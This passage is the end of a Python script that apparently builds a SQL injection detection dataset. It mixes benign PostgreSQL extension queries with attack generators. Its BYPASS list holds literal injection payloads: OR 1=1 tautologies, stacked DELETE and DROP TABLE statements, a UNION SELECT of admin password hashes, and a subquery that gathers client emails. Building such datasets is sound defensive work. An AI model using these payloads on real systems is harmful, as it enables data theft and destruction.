 ("pg_trgm", "select 'Kabankala' <% 'Kabankala_Cathedral', 'Kabankala_Cathedral' %> 'Kabankala'"), ("pg_trgm", "select 'Kabankala' <<% 'Kabankala_Cathedral'"),
 ("pg_trgm", "select 'Kabankala' <<-> 'Kabankala_Cathedral', 'Kabankala_Cathedral' <->> 'Kabankala'"), ("pg_trgm", "select show_limit()"), ("pg_trgm", "select set_limit(0.5)"),
 ("hstore", "select 'a=>b'::hstore"), ("hstore", "select ' a=>b'::hstore"), ("hstore", "select 'aa=>bb, cc=>NULL'::hstore"), ("hstore", "select '\"a key\" =>1'::hstore"),
 ("hstore", "select ('aa=>b, c=>d , b=>16'::hstore)->'c'"), ("hstore", "select ('aa=>b, c=>d , b=>16'::hstore)->ARRAY['aa','c']"),
 ("hstore", "select exist('a=>NULL, b=>qq', 'a')"), ("hstore", "select hstore 'a=>NULL, b=>qq' ?| ARRAY['b','a']"), ("hstore", "select hstore 'a=>NULL, b=>qq' ?& ARRAY['c','a']"),
 ("hstore", "select delete('a=>1 , b=>2, c=>3'::hstore, 'a')"), ("hstore", "select 'a=>1 , b=>2, c=>3'::hstore - 'a'::text"), ("hstore", "select akeys('aa=>1 , b=>2, cq=>3'::hstore)"),
 ("hstore", "select * from each('aaa=>bq, b=>NULL, \"\"=>1 ')"), ("hstore", "select hstore(ARRAY['a','b'], ARRAY['1','2'])"), ("hstore", "select hstore_to_json('\"a key\" =>1, b => t')"),
 ("hstore", "select hstore_to_jsonb_loose('\"a key\" =>1, b => t, c => null, d=> 12345')"), ("hstore", "select slice(hstore 'aa=>1, b=>2, c=>3', ARRAY['g','h','i'])"),
 ("hstore", "select 'aa=>1 , b=>2, cq=>3'::hstore @> 'cq=>3, b=>2'"), ("hstore", "select 'aa=>1 , b=>2, cq=>3'::hstore <@ 'cq=>3, b=>2'"),
 ("hstore", "select hstore('a', 'b') || hstore('c', NULL)"), ("hstore", "select %% 'aa=>1, cq=>l, b=>g, fg=>NULL'::hstore"),
 ("ltree", "SELECT ''::ltree"), ("ltree", "SELECT '1'::ltree"), ("ltree", "SELECT '1.2'::ltree"), ("ltree", "SELECT '1.2._3'::ltree"), ("ltree", "SELECT '1.2.-3'::ltree"),
 ("ltree", "SELECT ltree2text('1.2.3.34.sdf')"), ("ltree", "SELECT text2ltree('1.2.3.34.sdf')"), ("ltree", "SELECT subltree('Top.Child1.Child2',1,2)"),
 ("ltree", "SELECT subpath('Top.Child1.Child2',1)"), ("ltree", "SELECT subpath('Top.Child1.Child2',-1)"), ("ltree", "SELECT index('1.2.3.4.5.6','5.6')"),
 ("ltree", "SELECT nlevel('1.2.3.4')"), ("ltree", "SELECT lca('1.la.2.3','1.2.3.4.5.6')"), ("ltree", "SELECT '1.2'::ltree < '2.2'::ltree"),
 ("ltree", "SELECT 'a.b.c.d.e'::ltree ~ 'a.*.e'"), ("ltree", "SELECT 'a.b.c.d.e'::ltree ~ '*{1}.b.c.*'"), ("ltree", "SELECT 'a.b.c.d.e'::ltree ~ '!a.*'"),
 ("ltree", "SELECT 'QWER_TY'::ltree ~ 'q%@*'"), ("ltree", "SELECT 'tree & aWdf@*'::ltxtquery"), ("ltree", "SELECT 'tree.awdfg'::ltree @ '!tree & aWdf@*'::ltxtquery"),
 ("ltree", "SELECT '{1.2.3, 4.5}'::ltree[] @> '1'"), ("ltree", "SELECT '{a.b.c.d.e,B.df}'::ltree[] ?@> 'a.b'"), ("ltree", "SELECT 'Top.Science'::ltree || 'Astronomy'"),
 ("citext", "SELECT 'a'::citext = 'a'::citext AS t"), ("citext", "SELECT 'a'::citext = 'A'::citext AS t"), ("citext", "SELECT 'B'::citext > 'a'::citext AS t"),
 ("citext", "SELECT citext_cmp('aardvark'::citext, 'AARDVARK'::citext) AS zero"), ("citext", "SELECT 'à'::citext = 'À'::citext AS t"),
 ("citext", "SELECT regexp_matches('foobarbequebaz'::citext, '(BAR)(BEQUE)')"), ("citext", "SELECT strpos('high'::citext, 'IG') AS two"),
 ("citext", "SELECT 'abc'::citext LIKE 'AB%' AS t, 'abc'::citext ILIKE 'AB%' AS t2"), ("citext", "CREATE TEMP TABLE citext15 (name citext PRIMARY KEY)"),
 ("postgis", "SELECT ST_AsText(ST_GeomFromText('LINESTRING(0 0, 1 1)'))"), ("postgis", "SELECT ST_AsEWKT('SRID=4326;POINT(1 2)'::geometry)"),
 ("postgis", "SELECT ST_Intersects('POINT(0 0)'::geometry, 'LINESTRING ( 2 0, 0 2 )'::geometry)"), ("postgis", "SELECT ST_Distance('POINT(0 0)'::geography, 'POINT(1 1)'::geography)"),
 ("postgis", "SELECT 'BOX(0 0,1 1)'::box2d && 'BOX(0.5 0.5,2 2)'::box2d"), ("postgis", "SELECT ST_GeometryType(ST_Buffer('POINT(0 0)'::geometry, 1))"),
 ("postgis", "SELECT ST_AsGeoJSON('POLYGON((0 0,0 1,1 1,0 0))'::geometry)"), ("postgis", "SELECT ST_GeomFromGeoJSON('{\"type\":\"Point\",\"coordinates\":[1,2]}')"),
 ("postgis", "SELECT ST_DWithin('POINT(0 0)'::geometry, 'POINT(0 3)'::geometry, 3)"), ("postgis", "SELECT 'POINT(0 0)'::geometry <-> 'POINT(3 4)'::geometry"),
 ("postgis", "SELECT 'POINT(0 0)'::geometry |=| 'LINESTRING(0 1, 1 1)'::geometry"), ("postgis", "SELECT ST_SRID(ST_Transform(ST_SetSRID(ST_MakePoint(0, 51.5), 4326), 27700))"),
 ("postgis", "SELECT ST_NPoints(ST_Segmentize('LINESTRING(0 0, 10 0)'::geometry, 2.5))"), ("postgis", "SELECT ST_IsValid('POLYGON((0 0, 1 1, 1 0, 0 1, 0 0))'::geometry)"),
 ("timescale", "SELECT time_bucket('1 week', TIMESTAMP '2020-01-01')"), ("timescale", "SELECT time_bucket(10, 103)"),
 ("timescale", "SELECT time_bucket(INTERVAL '2 hours', TIMESTAMPTZ '2025-01-01 05:30+00', origin => '2000-01-01 01:00+00')"),
 ("timescale", "SELECT time_bucket(INTERVAL '1 day', TIMESTAMPTZ '2025-03-30 12:00+00', 'Europe/Berlin')"),
 ("timescale", "SELECT first(v, t), last(v, t) FROM (VALUES (1, 10), (2, 20)) x(t, v)"), ("timescale", "SELECT histogram(v, 0, 10, 5) FROM generate_series(1, 9) v"),
 ("pg_cron", "SELECT cron.schedule('0 10 * * *', 'VACUUM')"), ("pg_cron", "SELECT cron.schedule('purge', '*/5 * * * *', $$DELETE FROM events WHERE created < now() - interval '1 day'$$)"),
 ("pg_cron", "SELECT cron.unschedule('purge')"), ("pg_cron", "SELECT cron.alter_job(1, schedule := '@hourly')"), ("pg_cron", "SELECT cron.schedule('tick', '30 seconds', 'SELECT 1')"),
 ("cube", "SELECT '1'::cube AS cube"), ("cube", "SELECT '(1,2),(3,4)'::cube @> '(1.5,2.5)'::cube"), ("cube", "SELECT cube_distance('(0)'::cube, '(2,2,2,2)'::cube)"),
 ("cube", "SELECT cube(cube(1,2), 42)"), ("earthdistance", "SELECT earth_distance(ll_to_earth(51.5, -0.12), ll_to_earth(48.85, 2.35))"),
 ("earthdistance", "SELECT point(-0.12, 51.5) <@> point(2.35, 48.85)"), ("fuzzystrmatch", "SELECT levenshtein('GUMBO', 'GAMBOL')"),
 ("fuzzystrmatch", "SELECT soundex('hello world!'), difference('Anne', 'Ann')"), ("fuzzystrmatch", "SELECT metaphone('GUMBO', 4), dmetaphone('gumbo'), dmetaphone_alt('gumbo')"),
 ("fuzzystrmatch", "SELECT levenshtein_less_equal('extensive', 'exhaustive', 2)"), ("intarray", "SELECT '{1,2,3}'::int[] @@ '1&(2|3)'::query_int"),
 ("intarray", "SELECT icount('{1,2,3}'::int[]), sort('{3,1,2}'::int[]), uniq(sort('{1,2,2,3}'::int[]))"), ("intarray", "SELECT '{1,2,3}'::int[] - 2, '{1,2}'::int[] | '{3}'::int[]"),
 ("pgcrypto", "SELECT encode(digest('xyz', 'sha1'), 'hex')"), ("pgcrypto", "SELECT encode(hmac('data', 'key', 'sha256'), 'hex')"), ("pgcrypto", "SELECT gen_random_uuid() IS NOT NULL"),
 ("pgcrypto", "SELECT pgp_sym_decrypt(pgp_sym_encrypt('Secret', 'pw'), 'pw')"), ("uuid_ossp", "SELECT uuid_generate_v5(uuid_ns_url(), 'http://example.com/')"),
 ("unaccent", "SELECT unaccent('Hôtel Ève'), unaccent('unaccent', 'Ñandú')"), ("tablefunc", "SELECT * FROM crosstab('SELECT rowid, attribute, value FROM ct ORDER BY 1,2') AS ct(row_name text, c1 text, c2 text)"),
 ("tablefunc", "SELECT count(*) FROM normal_rand(3, 5, 3)"), ("btree_gist", "CREATE INDEX ON int4tmp USING gist (a)"), ("btree_gist", "SELECT a, a <-> 237 FROM int4tmp ORDER BY a <-> 237 LIMIT 3"),
 ("isn", "SELECT '9780262510875'::isbn13, isbn13('978-0-262-51087-5')"), ("seg", "SELECT '1.5 .. 2.5'::seg, seg_lower('1 .. 3'), '1 .. 2'::seg && '1.5 .. 3'::seg"),
 ("with", "WITH RECURSIVE search_graph(f, t, label) AS (SELECT * FROM graph15 g UNION ALL SELECT g.* FROM graph15 g, search_graph sg WHERE g.f = sg.t) CYCLE f, t SET is_cycle TO true DEFAULT false USING path SELECT * FROM search_graph"),
 ("with", "WITH RECURSIVE search_graph(f, t, label) AS (SELECT * FROM graph15 g UNION ALL SELECT g.* FROM graph15 g, search_graph sg WHERE g.f = sg.t) SEARCH BREADTH FIRST BY f, t SET seq SELECT * FROM search_graph ORDER BY seq"),
 ("with", "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 5) CYCLE n SET is_cycle USING path SELECT n FROM t"),
 ("with", "WITH x AS MATERIALIZED (SELECT unique1 FROM tenk1 LIMIT 3) SELECT * FROM x, x AS y"),
 ("merge", "MERGE INTO target15 t USING source15 s ON t.tid = s.sid WHEN MATCHED AND t.balance > s.delta THEN UPDATE SET balance = t.balance - s.delta WHEN NOT MATCHED THEN DO NOTHING"),
 ("merge", "MERGE INTO target15 t USING (SELECT sid, sum(delta) AS delta FROM source15 GROUP BY sid) s ON t.tid = s.sid WHEN MATCHED THEN UPDATE SET balance = t.balance + s.delta"),
 ("merge", "MERGE INTO target15 AS t USING source15 AS s ON t.tid = s.sid WHEN NOT MATCHED AND s.delta > 0 THEN INSERT VALUES (s.sid, s.delta) WHEN MATCHED THEN DELETE"),
 ("window", "SELECT four, ten, sum(ten) OVER (PARTITION BY four ORDER BY ten ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW EXCLUDE GROUP) FROM tenk1 WHERE unique2 < 10"),
 ("window", "SELECT four, ten, sum(ten) OVER (ORDER BY four RANGE BETWEEN 1 PRECEDING AND 1 FOLLOWING EXCLUDE TIES) FROM tenk1 WHERE unique2 < 10"),
 ("window", "SELECT first_value(ten) OVER w, last_value(ten) OVER w, nth_value(ten, 2) OVER w FROM tenk1 WHERE unique2 < 10 WINDOW w AS (ORDER BY ten GROUPS BETWEEN 1 PRECEDING AND 1 FOLLOWING EXCLUDE NO OTHERS)"),
 ("aggregates", "SELECT count(*) FILTER (WHERE four = 0), sum(ten) FILTER (WHERE ten > 5) FROM tenk1"),
 ("aggregates", "SELECT array_agg(DISTINCT four ORDER BY four) FILTER (WHERE ten < 5) FROM tenk1"),
 ("groupingsets", "SELECT a, b, grouping(a, b), sum(v) FROM gstest15 GROUP BY ROLLUP (a, b) ORDER BY 1, 2"),
 ("groupingsets", "SELECT a, b, grouping(a), count(*) FROM gstest15 GROUP BY CUBE (a, b) HAVING grouping(a) = 0"),
 ("groupingsets", "SELECT a, sum(v) FROM gstest15 GROUP BY DISTINCT ROLLUP (a, b), ROLLUP (a)"),
 ("arrays", "SELECT generate_subscripts(ARRAY[[1,2],[3,4]], 2)"), ("arrays", "SELECT generate_subscripts('{1,2,3}'::int[], 1, true)"),
 ("arrays", "SELECT a[s] FROM (SELECT ARRAY[10, 20, 30] AS a) x, generate_subscripts(x.a, 1) AS s"),
 ("select", "SELECT unique1, string4 FROM onek WHERE unique1 < 5 ORDER BY string4 USING ~<~, unique1 USING >"),
 ("select", "SELECT ten FROM onek ORDER BY ten USING <, unique1 USING > LIMIT 5"),
 ("tablesample", "SELECT count(*) FROM tenk1 TABLESAMPLE SYSTEM (10) REPEATABLE (15)"), ("tablesample", "SELECT id FROM test_tablesample15 TABLESAMPLE SYSTEM (0)"),
 ("select_for_update", "SELECT * FROM onek WHERE unique1 = 1 FOR SHARE OF onek"), ("select_for_update", "SELECT * FROM onek a JOIN tenk1 b USING (unique1) FOR SHARE OF a FOR UPDATE OF b SKIP LOCKED"),
 ("select_for_update", "SELECT * FROM onek FOR KEY SHARE NOWAIT"),
 ("async", "LISTEN notify_async15"), ("async", "UNLISTEN notify_async15"), ("async", "UNLISTEN *"), ("async", "NOTIFY notify_async15, 'payload with spaces'"),
 ("advisory_lock", "SELECT pg_advisory_lock_shared(15), pg_advisory_unlock_shared(15)"), ("advisory_lock", "SELECT pg_try_advisory_xact_lock_shared(1, 15)"),
 ("copy", "COPY x15 FROM STDIN WITH (FORMAT csv, HEADER match, DEFAULT '\\D')"), ("copy", "COPY x15 (a, b) FROM STDIN WITH (FORMAT text, DELIMITER '|', NULL 'NULL')"),
 ("copy", "COPY x15 TO STDOUT WITH (FORMAT csv, FORCE_QUOTE *, ESCAPE '\\')"), ("copy", "COPY (VALUES (1, 'a'), (2, 'b')) TO STDOUT (FORMAT csv)"),
 ("copy", "COPY x15 FROM STDIN WHERE a > 5"), ("copy", "COPY x15 FROM STDIN (FREEZE, FORMAT binary)"),
]


def regress_rows(r):
    out, add = regress_list("regress15", REGRESS_FIXED)
    for _ in range(40):
        n = r.randint(1, 6)
        a = "[" + ",".join(str(r.randint(-9, 9)) for _ in range(n)) + "]"
        b = "[" + ",".join(str(r.randint(-9, 9)) for _ in range(n)) + "]"
        add("vector", r.choice(["SELECT '%s'::vector %s '%s'" % (a, r.choice(["<->", "<=>", "<#>", "<+>", "+", "-", "*", "<", ">=", "<>"]), b),
                                "SELECT l2_distance('%s', '%s')" % (a, b), "SELECT cosine_distance('%s'::vector, '%s'::vector)" % (a, b),
                                "SELECT vector_dims('%s'), vector_norm('%s')" % (a, a), "SELECT '%s'::vector(%d)" % (a, n), "SELECT '%s'::halfvec <-> '%s'" % (a, b)]))
    for _ in range(35):
        w1 = rword(r, r.randint(3, 9))
        w2 = w1[:r.randint(2, len(w1))] + rword(r, r.randint(0, 3))
        add("pg_trgm", r.choice(["select similarity('%s', '%s')" % (w1, w2), "select show_trgm('%s')" % w1, "select '%s' %% '%s'" % (w1, w2),
                                 "select word_similarity('%s', '%s %s')" % (w2, w1, rword(r, 4)), "select '%s' <-> '%s'" % (w1, w2),
                                 "select t, similarity(t, '%s') as sml from test_trgm15 where t %% '%s' order by sml desc, t" % (w1, w1)]))
    for _ in range(30):
        k1, k2 = rword(r, 3), rword(r, 4)
        v1, v2 = r.randint(0, 99), r.choice(["NULL", "x", "\"q q\""])
        h = "%s=>%d, %s=>%s" % (k1, v1, k2, v2)
        add("hstore", r.choice(["select '%s'::hstore" % h, "select ('%s'::hstore) -> '%s'" % (h, k1), "select '%s'::hstore ? '%s'" % (h, k2),
                                "select '%s'::hstore @> '%s=>%d'" % (h, k1, v1), "select akeys('%s'), avals('%s')" % (h, h), "select hstore_to_json('%s')" % h,
                                "select delete('%s'::hstore, '%s')" % (h, k1), "select '%s'::hstore || '%s=>%d'" % (h, rword(r, 2), r.randint(0, 9))]))
    for _ in range(30):
        p = ".".join(rword(r, r.randint(1, 5)) for _ in range(r.randint(1, 5)))
        add("ltree", r.choice(["SELECT '%s'::ltree" % p, "SELECT nlevel('%s')" % p, "SELECT subpath('%s', 0, 1)" % p, "SELECT '%s'::ltree ~ '*.%s.*'" % (p, p.split(".")[-1]),
                               "SELECT '%s'::ltree <@ '%s'" % (p, p.split(".")[0]), "SELECT '%s'::ltree @> '%s.x'" % (p, p), "SELECT text2ltree('%s')" % p,
                               "SELECT lca('%s', '%s.y')" % (p, p)]))
    for _ in range(30):
        x, y = r.uniform(-170, 170), r.uniform(-80, 80)
        add("postgis", r.choice(["SELECT ST_AsText(ST_MakePoint(%.3f, %.3f))" % (x, y), "SELECT ST_AsText(ST_GeomFromText('POINT(%.2f %.2f)'))" % (x, y),
                                 "SELECT ST_Distance('POINT(%.2f %.2f)'::geography, 'POINT(0 0)'::geography)" % (x, y),
                                 "SELECT ST_DWithin('POINT(%.1f %.1f)'::geometry, 'POINT(0 0)'::geometry, %d)" % (x, y, r.randint(1, 200)),
                                 "SELECT ST_MakeEnvelope(%.1f, %.1f, %.1f, %.1f, 4326) && 'POINT(%.1f %.1f)'::geometry" % (x, y, x + 1, y + 1, x + 0.5, y + 0.5),
                                 "SELECT ST_GeoHash(ST_SetSRID(ST_MakePoint(%.4f, %.4f), 4326), %d)" % (x, y, r.randint(3, 9)),
                                 "SELECT ST_AsGeoJSON(ST_Buffer('POINT(%.1f %.1f)'::geometry, %d, 2))" % (x, y, r.randint(1, 5))]))
    for _ in range(25):
        add("timescale", r.choice(["SELECT time_bucket('%d %s', TIMESTAMP '%s')" % (r.randint(1, 30), r.choice(["minutes", "hours", "days"]), ts(r)),
                                   "SELECT time_bucket(%d, %d)" % (r.randint(2, 50), r.randint(-500, 500)),
                                   "SELECT time_bucket(INTERVAL '%d hours', TIMESTAMPTZ '%s+00', 'Asia/Tokyo')" % (r.randint(1, 12), ts(r)),
                                   "SELECT time_bucket('1 month', DATE '%s')" % rdate(r)]))
    for _ in range(20):
        add("citext", r.choice(["SELECT '%s'::citext = '%s'::citext" % (w, w.upper()) for w in [rword(r, r.randint(2, 8))]] +
                               ["SELECT '%s'::citext < '%s'::citext" % (rword(r, 3), rword(r, 3).upper()), "SELECT upper('%s'::citext), length('%s'::citext)" % (rword(r, 5), rword(r, 4))]))
    for _ in range(25):
        add("window", "SELECT ten, %s OVER (ORDER BY ten %s) FROM tenk1 WHERE unique2 < %d" % (
            r.choice(["sum(four)", "count(*)", "avg(ten)", "first_value(four)", "last_value(four)"]),
            r.choice(["ROWS BETWEEN %d PRECEDING AND CURRENT ROW EXCLUDE CURRENT ROW" % r.randint(1, 4), "RANGE BETWEEN CURRENT ROW AND %d FOLLOWING EXCLUDE GROUP" % r.randint(1, 3),
                      "GROUPS BETWEEN 1 PRECEDING AND UNBOUNDED FOLLOWING EXCLUDE TIES", "ROWS UNBOUNDED PRECEDING EXCLUDE NO OTHERS"]), r.randint(5, 60)))
    for _ in range(20):
        add("fuzzystrmatch", r.choice(["SELECT levenshtein('%s', '%s')" % (rword(r, 5), rword(r, 6)), "SELECT soundex('%s')" % rword(r, 7),
                                       "SELECT metaphone('%s', %d)" % (rword(r, 6), r.randint(2, 8)), "SELECT difference('%s', '%s')" % (rword(r, 4), rword(r, 4))]))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "plpgsql_do_exec", "dollar_quote", "e_escape", "sqlmap"]
KIND_FAMILY = {"vec": "input_numeric_string", "wkt": "input_formatted", "geojson": "input_json_text", "ltree": "input_formatted", "lquery": "input_formatted",
               "hkey": "input_plain", "hstore": "input_formatted", "jpstr": "input_plain", "jpath": "input_formatted", "cron": "input_formatted",
               "interval": "input_formatted", "tsq": "input_plain", "tsq2": "input_formatted", "date": "input_formatted", "ts": "input_formatted",
               "email": "input_url_email", "tz": "input_formatted", "like": "input_formatted", "arr": "input_plain", "delim": "input_punctuation",
               "nullstr": "input_punctuation"}
TRUNC_STYLES = [("dashdash_nbsp", "--\u00a0"), ("dashdash_at", "--@"), ("dashdash_dollar", "--$"), ("dashdash_tilde", "--~"), ("dashdash_paren", "--)"),
                ("dashdash_sqlmap_word", "-- sqlmap"), ("block_open_bang", "/*!"), ("block_open_plus", "/*+"), ("dashdash_double_quote", '--"'),
                ("dashdash_percent", "--%"), ("dashdash_backslash", "--\\"), ("double_semicolon_dashdash", ";;--"), ("block_open_dashdash", "/*--"),
                ("dashdash_amp", "--&"), ("dashdash_space_dot", "-- ."), ("dashdash_random_word", None)]
# the application escapes quotes the wrong way for its literal
BYPASS = [("addslashes_into_standard_string", "t15_dbal_sleeves", "a", "deck building' OR 1=1 -- ", addslashes),
          ("doubling_into_e_string", "t15_mojo_peal_footnote", "a", "\\'; DELETE FROM peal_records; -- ", double_quotes),
          ("addslashes_into_standard_string", "t15_redash_riders", "b", "Kenny%' UNION SELECT login, password_sha1, NULL FROM velodrome_admins -- ", addslashes),
          ("doubling_into_e_string", "t15_knex_test_pressing", "c", "\\', now()); DROP TABLE test_pressings; -- ", double_quotes),
          ("addslashes_into_standard_string", "t15_jooq_order_notes", "a", "steam it', notes = (SELECT string_agg(email, chr(59)) FROM milliner_clients) -- ", addslashes),
          ("addslashes_into_standard_string", "t15_metabase_species", "a", "Harbourside' OR 1=1 -- ", addslashes)]


def truncation_style(r):
    """(name, comment) cutting off the rest of the statement."""
    style, c = r.choice(TRUNC_STYLES)
    return style, c if c is not None else "--" + rword(r, r.randint(2, 5))


TRUNCATION = {"style": truncation_style, "origs": ["admin", "", "operator", "1"], "spaces": ["", " ", "\t", "  "]}


def numeric_value(r):
    return r.choice([str(r.randint(0, 9999)), str(r.randint(1, 60)), "%d.%03d" % (r.randint(0, 400), r.randint(0, 999)), "%.4f" % r.uniform(-180, 180),
                     str(r.randint(10 ** 5, 10 ** 8)), "0", "-%d" % r.randint(1, 120), "%d.5e%d" % (r.randint(1, 9), r.randint(1, 3))])


def numeric_refused(tpl, slot, val):
    """No sign, fraction, exponent or long number where only a small count or an id goes."""
    si = slot_info(tpl, slot)
    strict = (si["in_limit"] or si["lead"] in ("SET", "LISTEN") or si["clause"] == "ROWS"
              or tpl[0] in ("t15_hasura_slot_lock", "t15_seaorm_cron_alter", "t15_metabase_dbh_bins", "t15_dbal_recommend"))
    return strict and (val.startswith("-") or "." in val or "e" in val or len(val) > 6)


def formatted_value(r):
    return r.choice(["%s-LP-%03d" % (rword(r, 4, upper=True), r.randint(0, 999)), "IR-%d/%05d" % (r.randint(1, 3), r.randint(0, 99999)),
                     "%d:%02d:%02d.%d" % (r.randint(0, 5), r.randint(0, 59), r.randint(0, 59), r.randint(0, 9)), "#%06x" % r.getrandbits(24),
                     "%.4f° %s, %.4f° %s" % (r.uniform(0, 90), r.choice("NS"), r.uniform(0, 180), r.choice("EW")), "E%08d" % r.randint(0, 10 ** 8),
                     "%d-W%02d-%d" % (r.randint(2020, 2027), r.randint(1, 52), r.randint(1, 7)), "%s%d" % (r.choice(["F", "M"]), r.choice([35, 40, 45, 50, 55])) + "-%d" % r.randint(36, 59)])


def input_value(r, fam, groups):
    """(template, slot, value) of one benign input of family fam, or None."""
    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
    if kinds and r.random() < 0.45:
        return typed_input(r, kinds, fam, typed_value)
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ",", " , "], 50000, 6, numeric_value, numeric_refused)
    if fam == "input_identifier":
        return identifier_input(r, groups.identifier, CANON)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.35, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG, runs_into=True))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "f15-%06d", "fifteenth")


if __name__ == "__main__":
    main()
